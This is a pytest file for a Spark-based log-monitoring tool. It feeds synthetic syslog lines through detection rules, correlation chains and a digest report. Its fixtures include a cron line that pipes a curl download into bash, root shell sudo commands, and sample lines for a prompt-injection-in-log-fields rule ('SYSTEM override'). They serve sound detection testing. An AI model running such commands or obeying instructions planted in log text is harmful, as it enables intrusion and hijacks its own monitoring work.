"""From raw lines to alerts, chains and a digest, with the standard overrides, extraction rules, detection rules, suppressions
and correlations."""

from datetime import UTC, datetime, timedelta

import pytest
from pyspark.sql import functions as F

from logquern.operators import digest, ingest, search, stateful
from logquern.plans import rules as rl
from logquern.plans import suppress as sp
from logquern.timeutil import Window

NOW = datetime(2026, 7, 2, tzinfo=UTC)
SSH = "<38>1 2026-07-01T00:00:0{}+00:00 victim sshd-session 1 - - {}"
CRON = "<78>Jul  1 00:00:00 victim CRON[1]: (root) CMD ({})"
SUDO = "<85>Jul  1 00:00:00 victim sudo[1]: mallory : TTY=pts/0 ; PWD=/home/mallory ; USER={} ; COMMAND={}"
UFW = "<4>Jul  1 00:00:00 victim kernel: [12345.678] [UFW {}] IN=eth0 OUT= MAC=00:11 SRC=203.0.113.9 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=4444 DPT=22 TTL=54"
WALL = "<134>1 2026-07-01T00:00:00+00:00 FW1.homelab.lan filterlog 1 - - 80,,,1,re2.500,match,{},in,4,0x0,,64,1,0,DF,6,tcp,60,203.0.113.50,{},40000,9999,0,S,1,,64240,,mss"
PROXY = "<134>Jul  1 00:00:00 haproxy haproxy[1]: {}"
TLS = "{}:50001 [01/Jul/2026:00:00:00.000] front/192.168.178.12:8006: SSL handshake failure (error)"
ROOT = {"1002-sudo-execution", "1008-sudo-privilege-escalation"}

LINES = [
    (SSH.format(0, "Failed password for user from 203.0.113.5 port 2222 ssh2"), {"1001-ssh-brute-force", "1004-suspicious-ssh"}),
    (SSH.format(0, "Failed password for root from 10.0.0.5 port 3333 ssh2"), {"1001-ssh-brute-force"}),
    (SSH.format(0, "Accepted password for user from 10.10.50.11 port 22 ssh2"), {"1005-ssh-login-success"}),
    (SSH.format(0, "Failed password for siemctl retention from 203.0.113.5 port 1 ssh2"), {"1011-prompt-injection-log-fields"}),
    ("<38>1 2026-07-01T00:00:00+00:00 victim sshd-proxy 1 - - Failed password for user from 203.0.113.5 port 2222 ssh2", set()),
    (SUDO.format("root", "/usr/bin/bash"), ROOT),
    (SUDO.format("root", "/usr/bin/apt update"), {"1002-sudo-execution"}),
    (SUDO.format("root", "/bin/sh"), ROOT),
    (SUDO.format("root", "/bin/shred x"), {"1002-sudo-execution"}),
    (SUDO.format("root", "/usr/sbin/useradd eve"), ROOT),
    (SUDO.format("bob", "/usr/bin/bash"), {"1002-sudo-execution"}),
    (UFW.format("BLOCK"), {"1003-iptables-deny"}),
    (UFW.format("ALLOW"), set()),
    (CRON.format("curl http://198.51.100.9/x.sh | bash"), {"1006-cron-suspicious-command"}),
    (CRON.format("cat x | bash"), {"1006-cron-suspicious-command"}),
    (CRON.format("cd / && run-parts --report /etc/cron.hourly"), set()),
    (CRON.format("ls /tmp/x; echo act as one"), set()),
    (CRON.format("echo SYSTEM override"), {"1011-prompt-injection-log-fields"}),
    (PROXY.format(TLS.format("203.0.113.7")), {"1007-haproxy-tls-probe"}),
    (PROXY.format(TLS.format("93.152.208.9")), set()),  # suppressed
    (PROXY.format("Connect from 203.0.113.7:50001 to 192.168.178.12:8006 (front/HTTP)"), {"1012-haproxy-connect-volume"}),
    (PROXY.format("203.0.113.7:50001 [01/Jul/2026:00:00:00.000] front/192.168.178.12: ok"), set()),
    (WALL.format("block", "10.10.60.10"), {"1009-firewall-port-scan"}),
    (WALL.format("pass", "10.10.60.10"), set()),
    (WALL.format("block", "224.0.0.251"), set()),  # suppressed
    ("<85>1 2026-07-01T00:00:00+00:00 victim unix_chkpwd 1 - -  password check failed for user (admin)", {"1010-local-auth-failure"}),
    ("<85>1 2026-07-01T00:00:00+00:00 pve IPCC.xs 1 - - pam_unix(proxmox-ve-auth:auth): authentication failure; rhost=1.2.3.4", set()),
]


def events(spark, lines):
    df = spark.createDataFrame([(x, "10.9.9.9") for x in lines], "value string, source_addr string")
    return ingest.normalize(df, F.lit(NOW))


def fired(df):
    resolve = search.event_field(df)
    return rl.match_rules(df, rl.shipped(), resolve, df["line"], sp.suppressed(sp.shipped(), resolve))


def test_rules(spark):
    df = events(spark, [x for x, _ in LINES])
    got = {}
    for r in fired(df).select("_raw", "rule_id").collect():
        got.setdefault(r._raw, set()).add(r.rule_id)
    assert {x: got.get(x, set()) for x, _ in LINES} == dict(LINES)
    labels = {r._raw: r._source_type for r in df.select("_raw", "_source_type").collect()}
    assert labels[UFW.format("BLOCK")] == "iptables" and labels[LINES[-1][0]] == "proxmox-ve-auth" and labels[WALL.format("pass", "10.10.60.10")] == "filterlog"


BURST = {
    "cred-brute-force-success": [SSH.format(i, f"Failed password for user from 203.0.113.5 port 5000{i} ssh2") for i in range(3)] + [SSH.format(5, "Accepted password for user from 203.0.113.5 port 50099 ssh2")],
    "sustained-brute-force": [SSH.format(i % 10, f"Failed password for user from 203.0.113.6 port 4000{i} ssh2") for i in range(10)],
    "port-scan": [WALL.format("block", "10.10.60.10").replace("9999", str(1000 + i)) for i in range(15)],
    "haproxy-connect-flood": [PROXY.format(f"Connect from 203.0.113.7:{50000 + i} to 192.168.178.12:8006 (front/HTTP)") for i in range(100)],
}


@pytest.mark.parametrize("name", BURST)
def test_correlations(spark, name):
    for drop, want in ((0, {name}), (1, set())):
        df = fired(events(spark, BURST[name][drop:]))
        own = df.select("rule_id", search.event_field(df)("src_ip").alias("src_ip"), F.unix_timestamp("event_time").alias("timestamp"), F.xxhash64("_raw").alias("tie"))
        assert {r.correlation_id for r in stateful.chains(own, stateful.shipped_chains()).collect()} == want


DIGEST = """
<142>1 2026-06-30T00:00:00+00:00 myhost cron 1 - - (root) CMD (/usr/bin/backup.sh)
<134>1 2026-07-01T13:20:00+00:00 pfsense filterlog 1 - - 1,,,5,re1,match,block,in,4,0x0,0x0,64,5,0,DF,6,tcp,60,203.0.113.99,192.168.178.1,54322,23,0
<134>1 2026-07-01T13:25:00+00:00 pfsense filterlog 1 - - 1,,,3,lan,match,pass,out,4,0x0,0x0,64,3,0,DF,6,tcp,60,192.168.178.12,172.66.152.176,55556,80,0
<86>1 2026-07-01T14:05:00+00:00 myhost sshd 1234 - - Failed password for root from 203.0.113.5 port 22 ssh2
<86>1 2026-07-01T14:05:30+00:00 myhost sshd 1234 - - Failed password for root from 203.0.113.5 port 22 ssh2
<86>1 2026-07-01T14:10:00+00:00 myhost sudo 999 - - robin : TTY=pts/0 ; PWD=/home/robin ; USER=root ; COMMAND=/bin/nano /etc/x
<86>1 2026-07-01T14:15:00+00:00 myhost systemd 1 - - Stopped sshguard.service
<86>1 2026-07-01T14:15:30+00:00 myhost systemd 1 - - Started sshguard.service
<134>1 2026-07-01T14:20:00+00:00 pfsense php-fpm 1 - - /firewall_rules.php: Configuration Change: admin@192.168.178.75 (Local Database): updated rule
{blocks}
<134>1 2026-07-01T14:30:00+00:00 pfsense filterlog 1 - - 1,,,15,re1,match,pass,in,4,0x0,0x0,64,15,0,DF,6,tcp,60,217.103.119.242,192.168.178.12,55555,8006,0
<134>1 2026-07-01T14:35:00+00:00 pfsense filterlog 1 - - 1,,,16,lan,match,pass,out,4,0x0,0x0,64,16,0,DF,6,tcp,60,192.168.178.12,172.66.152.176,55556,80,0
<134>1 2026-07-01T14:40:00+00:00 pfsense filterlog 1 - - 1,,,17,lan,match,pass,out,4,0x0,0x0,64,17,0,DF,6,tcp,60,192.168.178.12,172.66.200.1,55557,443,0
<86>1 2026-07-01T14:45:00+00:00 myhost openvpn 1 - - UDPv4 link remote: [AF_INET]203.0.113.9:1194
"""
BLOCKS = "\n".join(f"<134>1 2026-07-01T14:25:{i}0+00:00 pfsense filterlog 1 - - 1,,,1{i},re1,match,block,in,4,0x0,0x0,64,1{i},0,DF,6,tcp,60,198.51.100.9,192.168.178.1,54321,22,0" for i in range(5))
STORM = [f"<86>1 2026-07-01T14:50:0{i}+00:00 myhost systemd 1 - - Started unit{i}.service" for i in range(6)]
FIELDS = ["src_ip", "dst_ip", "dst_port", "action", "protocol", "interface", "direction", "event_type", "username", "target_user", "command", "unit", "admin_user", "pfsense_page"]


def at(hour, minute, second=0):
    return int(datetime(2026, 7, 1, hour, minute, second, tzinfo=UTC).timestamp())


def test_digest(spark):
    lines = DIGEST.format(blocks=BLOCKS).strip().splitlines()
    rows = [("known-rule", "Known Rule", "low", at(13, 30)), ("sudo-execution", "Sudo Execution", "low", at(14, 10, 1)), *[("new-rule", "New Rule", "medium", at(14, 12, i)) for i in range(1, 10)]]
    alerts = spark.createDataFrame(rows, "rule_id string, rule_title string, level string, timestamp long")
    window = Window(datetime(2026, 7, 1, 14, tzinfo=UTC), datetime(2026, 7, 1, 15, tzinfo=UTC))
    found = digest.report(ingest.promote(events(spark, lines), FIELDS).cache(), window, alerts=alerts, interval=timedelta(minutes=10))
    coverage, network, auth, notable = (found[k] for k in ("coverage", "network", "auth", "notable"))
    assert (coverage["sources_reporting"], coverage["gone_silent"], coverage["coverage_cold_start"]) == (6, ["cron"], False) and "openvpn" in coverage["new_sources"]
    flags = {r["source"]: r["flag"] for r in found["volume"]}
    assert (flags["filterlog"], flags["openvpn"]) == ("spike", "new")
    assert (network["top_blocked"][0]["src_ip"], network["top_blocked"][0]["count"], sum(network["block_trend"])) == ("198.51.100.9", 5, 5)
    assert [(r["src_ip"], r["dst_port"]) for r in network["inbound"]] == [("217.103.119.242", "8006")]
    new = {r["dst_ip"]: r["dst_port"] for r in network["new_destinations"]}
    assert new["172.66.200.1"] == "443" and "172.66.152.176" not in new
    assert [(r["src_ip"], r["count"]) for r in auth["failures"]] == [("203.0.113.5", 2)]
    assert (auth["sudo"][0]["command"], auth["sudo"][0]["target_user"], auth["successes"]) == ("/bin/nano /etc/x", "root", [])
    assert notable["config_changes"][0]["admin_user"] == "admin" and notable["config_changes"][0]["page"] == "/firewall_rules.php"
    assert [(r["unit"], r["count"]) for r in notable["service_restarts"]] == [("sshguard.service", 2)] and notable["boot_storms"] == []
    assert found["alerts"]["total"] == 10 and found["alerts"]["first_time_rules"] == ["new-rule", "sudo-execution"] and "new-rule" in found["alerts"]["concentration_warning"]
    text = digest.render(found)
    assert "=== COVERAGE" in text and "=== NOTABLE EVENTS" in text


def test_storm(spark):
    lines = [x for x in DIGEST.splitlines() if "sshguard" in x] + STORM
    window = Window(datetime(2026, 7, 1, 14, tzinfo=UTC), datetime(2026, 7, 1, 15, tzinfo=UTC))
    units = digest.service_restarts(ingest.promote(events(spark, lines), FIELDS), window).cache()
    assert [r.unit for r in units.filter("storm IS NULL").collect()] == ["sshguard.service"]
    (storm,) = digest.storms(units).collect()
    assert storm.unit_count == 6 and storm.units == [f"unit{i}.service" for i in range(6)]
